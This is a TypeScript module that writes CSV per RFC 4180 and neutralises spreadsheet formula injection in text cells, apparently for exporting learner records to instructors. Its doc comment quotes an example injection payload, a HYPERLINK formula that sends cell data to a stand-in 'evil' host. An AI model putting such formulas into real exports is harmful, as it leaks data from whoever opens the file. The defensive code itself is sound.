/**
 * CSV as RFC 4180 writes it: CRLF between records, a field quoted when it
 * holds a comma, a quote, CR or LF, quotes inside doubled.
 *
 * Text cells are also defused against formula injection (OWASP "CSV
 * Injection"): a spreadsheet runs a cell starting with = + - @ (or a tab or
 * CR, which some strip first) as a formula, so a learner named
 * `=HYPERLINK("http://evil/?"&A1)` would run code in the instructor's
 * spreadsheet. Such a cell gets a leading apostrophe, which spreadsheets
 * treat as "this is text" and do not show. Numbers are written as numbers
 * (a score of -1 is not a formula).
 */
export type CsvCell = string | number | boolean | null;

/**
 * A tab or CR first, or = + - @ (or their full-width forms, which some
 * spreadsheets fold) after any spaces: a formula to a spreadsheet.
 */
const FORMULA_START = /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;

export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

export function csvField(value: CsvCell): string {
  if (value === null) return '';
  if (typeof value === 'number') {
    if (!Number.isFinite(value)) throw new Error(`csvField: ${value} is not a finite number`);
    return String(value);
  }
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const text = neutraliseFormula(value);
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** A whole file: the header record, then one record per row, each ending in CRLF. */
export function toCsv(header: readonly string[], rows: ReadonlyArray<readonly CsvCell[]>): string {
  const records = [header, ...rows].map((row, i) => {
    if (row.length !== header.length) throw new Error(`toCsv: row ${i} has ${row.length} fields, the header ${header.length}`);
    return row.map(csvField).join(',');
  });
  return records.map((r) => `${r}\r\n`).join('');
}
